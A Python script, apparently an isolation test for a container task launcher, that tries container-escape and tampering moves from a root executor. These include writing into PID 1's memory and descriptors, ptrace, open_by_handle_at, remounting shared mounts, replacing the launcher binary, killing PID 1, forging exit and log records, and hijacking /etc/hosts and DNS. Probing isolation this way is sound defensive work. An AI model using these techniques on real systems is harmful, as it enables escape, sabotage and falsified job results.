"""What an executor, as root in its container, can try against its launcher and the other containers of its pod.

Runs there by itself, in any image with Python: nothing of the project is imported. Prints a line for each try, `NAME:
OUTCOME`; the outcome is the error's name where the try was refused.
"""

import ctypes
import errno
import os
import signal
import stat
import struct
import subprocess
import sys
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
PLACE, OTHER = "/.tesk", "ex-02"
FORGED_END = b'{"exit_code":0,"start":"2026-01-01T00:00:00.000Z","end":"2026-01-01T00:00:00.000Z"}\n'
FORGED_RECORD = b'R {"stdout":{"size":6,"head":"Zm9yZ2VkCg==","tail":""},"stderr":{"size":0,"head":"","tail":""}}\n'
FORGED_REPORT = b'tesk-report {"after":0,"report":{"state":"COMPLETE"}}\n'
PTRACE_SEIZE = 0x4206
REMOUNT_WRITABLE = 32 | 4096
CLONE_NEWNS = 0x20000


def call(name: str, *arguments: object) -> int:
    """A function of the C library that sets errno."""
    ctypes.set_errno(0)
    found: int = getattr(LIBC, name)(*arguments)
    if found < 0:
        raise OSError(ctypes.get_errno(), name)
    return found


def write(path: str, data: bytes) -> str:
    file = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    os.write(file, data)
    return "written"


def into_each_file_of_process_1() -> str:
    for name in os.listdir("/proc/1/fd"):
        write(f"/proc/1/fd/{name}", FORGED_END)
    return "written"


def process_1s_memory() -> str:
    os.open("/proc/1/mem", os.O_RDWR)
    return "open"


def process_1s_root() -> str:
    return " ".join(os.listdir("/proc/1/root/"))


def seize_process_1() -> str:
    call("ptrace", PTRACE_SEIZE, 1, 0, 0)
    return "seized"


def take_a_file_of_process_1() -> str:
    return str(call("syscall", 438, os.pidfd_open(1), 3, 0))  # pidfd_getfd


def find_fifos() -> str:
    """The named pipes of the container, and whatever is called as another executor's control directory."""
    found = []
    for top, directories, files in os.walk("/"):
        directories[:] = [one for one in directories if os.path.join(top, one) not in ("/proc", "/sys")]
        for name in (*directories, *files):
            path = os.path.join(top, name)
            if name.startswith(OTHER) or stat.S_ISFIFO(os.lstat(path).st_mode):
                found.append(path)
    return " ".join(found) or "ENOENT"


def by_handle() -> str:
    """Out of the mount, by the number of a file beside it."""
    mount, handle = ctypes.c_int(), ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    call("name_to_handle_at", -100, PLACE.encode(), handle, ctypes.byref(mount), 0)
    return str(call("open_by_handle_at", os.open(PLACE, os.O_RDONLY), handle, os.O_RDONLY))


def remount() -> str:
    call("mount", None, PLACE.encode(), None, REMOUNT_WRITABLE, None)
    return "writable"


def unmount() -> str:
    call("umount2", PLACE.encode(), 2)
    return "unmounted"


def in_a_user_namespace() -> str:
    """Where one has every capability, and mounts are locked."""
    child = os.fork()
    if child == 0:
        for one in (lambda: call("unshare", 0x10000000 | CLONE_NEWNS), remount):
            try:
                one()
            except OSError as error:
                os._exit(error.errno or 255)
        os._exit(0)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise OSError(code, "")
    return "writable"


def delete_the_launcher() -> str:
    os.unlink(f"{PLACE}/launcher")
    return "deleted"


def replace_the_launcher() -> str:
    os.rename("/tmp/own", f"{PLACE}/launcher")
    return "replaced"


def make_a_fifo() -> str:
    os.mkfifo(f"{PLACE}/go")
    return "made"


def take_the_turn_of_another() -> str:
    """A second launcher, which finds no way to a taskmaster."""
    done = subprocess.run([f"{PLACE}/launcher", "--turn", PLACE, "--", "true"], capture_output=True, check=False)
    if done.returncode == 125 and b"there is no taskmaster" in done.stderr:
        raise FileNotFoundError(errno.ENOENT, "")
    return f"ended with {done.returncode}"


def signal_process_1() -> str:
    """The kernel keeps the first process of a container from what it does not wait for."""
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV, signal.SIGABRT):
        os.kill(1, number)
    with open("/proc/1/status") as status:
        if "stopped" in status.read():
            return "stopped"
    raise OSError(errno.EPERM, "")


def forge_lines() -> None:
    """Where others read: the log, the termination message, also by one who stays when we have ended."""
    for line in (FORGED_END, FORGED_RECORD, FORGED_REPORT, b"H\n"):
        os.write(1, b"\n" + line)
        os.write(2, line)
    if os.fork() == 0:
        os.setsid()
        while True:
            write("/dev/termination-log", FORGED_END)


def lead_elsewhere(host: str) -> None:
    """Have every name of the pod resolve to a host of our own."""
    for path, line in (("/etc/hosts", f"127.0.0.1 {host}\n"), ("/etc/resolv.conf", "nameserver 127.0.0.1\n")):
        with open(path, "r+") as file:  # in place: it is a mount
            rest = file.read()
            file.seek(0)
            file.write(line + rest)


TRIES: tuple[Callable[[], str], ...] = (
    into_each_file_of_process_1,
    process_1s_memory,
    process_1s_root,
    seize_process_1,
    take_a_file_of_process_1,
    find_fifos,
    by_handle,
    remount,
    unmount,
    in_a_user_namespace,
    delete_the_launcher,
    replace_the_launcher,
    make_a_fifo,
    take_the_turn_of_another,
    signal_process_1,
)


def main(host: str) -> int:
    """Try everything."""
    with open("/tmp/own", "w") as file:
        file.write("#!/bin/sh\n")
    for one in TRIES:
        try:
            outcome = one()
        except OSError as error:
            outcome = errno.errorcode.get(error.errno or 0, "?")
        print(f"{one.__name__}: {outcome}", flush=True)
    lead_elsewhere(host)
    forge_lines()
    return 7


if __name__ == "__main__":
    os._exit(main(*sys.argv[1:]))
